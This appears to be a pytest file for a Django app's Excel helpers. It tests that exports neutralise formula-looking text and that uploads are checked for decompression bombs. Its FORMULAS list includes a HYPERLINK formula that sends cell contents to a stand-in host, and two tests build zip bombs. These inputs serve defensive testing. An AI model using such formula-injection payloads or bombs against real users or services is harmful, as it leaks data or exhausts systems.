"""Workbooks gongzhi writes hold data, never formulas; uploads are checked before parsing."""

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import unquote

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from gongzhi.core.excel import (
    XLSX,
    TemplateColumn,
    append_row,
    check_upload_size,
    check_xlsx,
    example_row,
    import_template,
    is_example,
    read_rows,
    set_cell,
    table_workbook,
    workbook_bytes,
)

FORMULAS = ['=HYPERLINK("http://example.invalid/"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)"]


def assert_no_formulas(content: bytes) -> list:
    """Every cell of every sheet; fails if any is a formula."""
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def test_formula_looking_text_is_written_as_text_that_reads_as_typed():
    content = table_workbook("表", ["名称"], [[text] for text in FORMULAS])
    cells = assert_no_formulas(content)
    assert [c.value for c in cells[1:]] == FORMULAS
    assert all(c.quotePrefix for c in cells[1:])  # stays text when someone edits the cell


def test_cells_of_an_editable_workbook_are_protected_too():
    workbook = Workbook()
    append_row(workbook.active, ["=1+1", 3, None, "plain"])
    set_cell(workbook.active, "A2", "=2+2")
    cells = assert_no_formulas(workbook_bytes(workbook))
    assert [c.value for c in cells] == ["=1+1", 3, None, "plain", "=2+2", None, None, None]


def _zip(members: dict[str, bytes]) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def test_an_xlsx_that_unpacks_to_far_more_than_it_weighs_is_refused(settings):
    settings.GZ_IMPORT_MAX_UNPACKED = 4 * 2**20
    bomb = _zip({"xl/worksheets/sheet1.xml": b" " * (8 * 2**20)})  # 8 MB of spaces, ~8 KB packed
    with pytest.raises(ValidationError, match="解压后过大"):
        check_xlsx(bomb)


def test_a_dense_member_is_refused_even_under_the_total_limit(settings):
    bomb = _zip({"xl/sharedStrings.xml": b"a" * (3 * 2**20)})
    with pytest.raises(ValidationError, match="压缩比异常"):
        check_xlsx(bomb)


def test_a_file_that_is_not_an_xlsx_is_refused():
    with pytest.raises(ValidationError, match="无法读取"):
        check_xlsx(io.BytesIO(b"hello"))
    with pytest.raises(ValidationError, match="无法读取"):
        check_xlsx(_zip({"word/document.xml": b"<w/>"}))


def test_an_ordinary_workbook_passes():
    check_xlsx(io.BytesIO(table_workbook("表", ["名称"], [[f"行{n}"] for n in range(1000)])))


def test_an_upload_over_the_size_limit_is_refused(settings):
    settings.GZ_IMPORT_MAX_BYTES = 10 * 2**20
    check_upload_size(10 * 2**20)
    with pytest.raises(ValidationError, match="超过 10 MB"):
        check_upload_size(10 * 2**20 + 1)


@pytest.mark.parametrize(
    ("cells", "rows"),
    [
        ({"A1": "姓名", "B2": "张三"}, [("姓名", ""), ("", "张三")]),
        ({"C3": "王五"}, [("", "", ""), ("", "", ""), ("", "", "王五")]),  # no A or B column
        ({"B1": "社区", "C2": 13812345678}, [("", "社区", ""), ("", "", 13812345678.0)]),
    ],
)
def test_rows_are_read_from_a1_so_row_and_column_numbers_hold(cells, rows):
    workbook = Workbook()
    for at, value in cells.items():
        workbook.active[at] = value
    assert list(read_rows(io.BytesIO(workbook_bytes(workbook)))) == rows


def test_characters_a_workbook_cannot_hold_are_left_out_and_line_breaks_kept():
    rows = [["响铃\x07与单元分隔\x1f"], ["第一行\n第二行"], ["普通"]]
    sheet = load_workbook(io.BytesIO(table_workbook("表", ["说明"], rows))).active
    cells = [row[0] for row in sheet.iter_rows(values_only=True)]
    assert cells == ["说明", "响铃与单元分隔", "第一行\n第二行", "普通"]


def test_an_import_template_has_one_marked_example_row_and_a_notes_sheet():
    columns = [
        TemplateColumn("姓名", True, "文字", "示例：张三"),
        TemplateColumn("年度", False, "整数", 2024),
        TemplateColumn("备注", False, "文字", ""),
    ]
    book = load_workbook(io.BytesIO(import_template("名单", columns, ["另一条说明"])))
    assert book.sheetnames == ["名单", "说明"]
    rows = list(book["名单"].iter_rows(values_only=True))
    assert rows == [("姓名", "年度", "备注"), ("示例：张三", 2024, None)]
    assert book["名单"]["A2"].font.italic
    notes = list(book["说明"].iter_rows(values_only=True))
    assert notes[1:4] == [
        ("姓名", "必填", "文字"),
        ("年度", "选填", "整数"),
        ("备注", "选填", "文字"),
    ]
    assert ("另一条说明", None, None) in notes


def test_an_example_row_is_recognised_only_when_left_as_it_was():
    example = example_row(
        [TemplateColumn("姓名", True, "", "示例：张三"), TemplateColumn("年度", False, "", 2024)]
    )
    assert is_example(("示例：张三", 2024.0), example)  # as calamine reads it
    assert is_example(("示例：张三", "2024", "", None), example)
    assert not is_example(("示例：张三", 2025), example)
    assert not is_example(("张三", 2024), example)
    assert not is_example(("", ""), ("", ""))


def _sheet_names(content: bytes) -> list[str]:
    return load_workbook(io.BytesIO(content)).sheetnames


CJK = re.compile(r"[\u4e00-\u9fff]")


def test_every_workbook_a_user_downloads_has_chinese_sheet_names(client, demo, demo_users):
    """Registry exports and templates, the 台账, the activities list, sign-ins, the unit and
    program templates: no sheet is called “Sheet”, “Tablib Dataset” or anything English."""
    from gongzhi.activities.models import Activity
    from tests.activities.test_signin import make_activity

    client.force_login(demo_users["office"])
    make_activity()
    activity = Activity.objects.get()
    downloads = [
        client.post(reverse("progress:ledger-export", args=[demo.pk])),
        client.post(reverse("activities:activity-export")),
        client.post(reverse("activities:signin-export", args=[activity.pk])),
        client.get(reverse("activities:signin-template")),
        client.get(reverse("orgs:unit-import-template")),
        client.get(reverse("programs:import-template")),
    ]
    for registry in ("organizations", "stations", "workers", "volunteers", "donors"):
        downloads.append(client.post(reverse("community:export", args=[registry])))
        downloads.append(client.get(reverse("community:import-template", args=[registry])))
    for response in downloads:
        assert response.status_code == 200 and response["Content-Type"] == XLSX, response
        names = _sheet_names(response.content)
        assert names and all(CJK.search(name) for name in names), names
        assert CJK.search(unquote(response["Content-Disposition"])), response["Content-Disposition"]


def test_a_table_keeps_numbers_dates_and_times_as_values_and_text_as_typed():
    moment = datetime(2024, 5, 1, 9, 30)
    rows = [[3, Decimal("12.50"), date(2024, 5, 1), moment, None, True, "0012", "http://x.cn"]]
    content = table_workbook("表", list("ABCDEFGH"), rows)
    sheet = load_workbook(io.BytesIO(content)).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))[0]
    assert values == (3, 12.5, datetime(2024, 5, 1), moment, None, True, "0012", "http://x.cn")
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["D2"].number_format == "yyyy-mm-dd hh:mm"
